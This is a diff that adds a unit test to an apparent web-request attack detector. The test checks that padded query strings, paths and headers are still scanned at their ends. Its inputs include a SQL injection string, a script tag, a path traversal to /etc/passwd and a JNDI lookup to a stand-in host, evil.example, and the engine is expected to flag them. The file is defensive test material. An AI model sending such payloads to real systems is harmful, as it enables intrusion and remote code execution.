@@ -432,6 +432,38 @@ def test_a_json_body_over_the_limit_is_parsed_whole() -> None:
     assert points.unparsed == 3025 - 2048
 
 
+def test_the_target_and_headers_are_read_as_a_body_is_at_their_ends() -> None:
+    """What precedes the body is read no further than its first and last
+    `max_body_bytes` characters, as a body is: a megabyte of `%25` in a query took 58 ms
+    to decode, and 900 KB of text in a header 150 ms to scan. A payload after the padding
+    is in the tail; what lies between is counted, and reported where `oversize_body` is
+    `overlimit`."""
+    limits = Limits(max_body_bytes=1024)
+    padding = "%25" * 5000
+    uri = f"/?q=%27%20OR%201%3D1--&pad={padding}&r=%3Cscript%3E"
+    points = extract(Request("GET", uri), limits)
+    assert ("query.q", "' OR 1=1--") in list(points)
+    assert ("query.r", "<script>") in list(points)
+    tail = dict(points)["query.tail"]  # the end of the pair the tail starts in
+    assert tail.endswith("%" * 300) and len(tail) < 1024
+    assert sum(len(value) for _, value in points) <= 2 * 1024
+    assert points.unparsed_head > 0 and points.unparsed == 0
+    # A path, and the points of headers: their first and last 1024 characters of them all.
+    path = extract(Request("GET", "/" + "a" * 4000 + "/..%2f..%2fetc%2fpasswd"), limits)
+    assert dict(path)["path.tail"] == "a" * 1001 + "/../../etc/passwd"
+    headers = (("X-Pad", "b" * 5000), ("X-Api-Version", "${jndi:ldap://evil.example/a}"))
+    points = extract(Request("GET", "/", headers), limits)
+    assert list(points)[-1] == ("header.X-API-VERSION", "${jndi:ldap://evil.example/a}")
+    assert sum(len(value) for _, value in points) <= 2 * 1024
+    engine = Engine(EngineSettings(limits=limits, report_unparsed=True))
+    hits = {(h.type, h.point) for h in engine.scan(Request("GET", "/", headers))}
+    assert hits == {(AttackType.RCE, "header.X-API-VERSION"), (AttackType.OVERLIMIT, "request")}
+    assert {h.type for h in Engine(EngineSettings(limits=limits)).scan(Request("GET", uri))} == {
+        AttackType.SQLI,
+        AttackType.XSS,
+    }
+
+
 @pytest.mark.parametrize(
     "text",
     [
